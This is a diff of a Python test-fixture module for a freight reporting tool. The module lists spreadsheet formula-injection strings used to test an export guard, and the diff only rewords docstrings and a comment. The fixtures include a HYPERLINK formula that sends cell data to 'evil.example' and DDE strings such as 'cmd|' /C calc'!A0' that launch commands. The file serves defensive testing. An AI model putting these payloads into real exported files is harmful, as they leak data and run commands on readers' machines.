@@ -1,4 +1,4 @@
-"""Texts that somebody puts into a file so that a spreadsheet calculates them, and how a reader gets them back."""
+"""Formula injections: texts that a spreadsheet would calculate, and a function that restores exported ones."""
 
 from freight.reports.formulas import BEFORE_LIVE, GUARD
 
@@ -6,7 +6,7 @@ LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 CALLS = ("1+1", 'HYPERLINK("http://evil.example?"&A1,"open")', "cmd|' /C calc'!A0", "SUM(A1)*cmd|'/C calc'!A0")
 UNSEEN = ("", " ", "\t", "\r", "\n", "\x00", "\x0b", "\xa0", "\u200b", "\ufeff", '"', "'", "'\"'")
 
-NOT_LIVE = ("%0A=1+1", "|calc")  # look so, and are text everywhere
+NOT_LIVE = ("%0A=1+1", "|calc")  # look like formulas, but are text everywhere
 HOSTILE = (
     *(f"{sign}{call}" for sign in LIVE for call in CALLS),
     *(f"{unseen}=1+1" for unseen in UNSEEN),
@@ -39,5 +39,5 @@ HARMLESS = (
 
 
 def without_guard(text: str) -> str:
-    """Take away what an export has put before each part of a text that a spreadsheet would calculate."""
+    """Remove the prefix that an export puts before each part of a text that a spreadsheet would calculate."""
     return BEFORE_LIVE.sub(lambda found: found[0].removesuffix(GUARD), text)
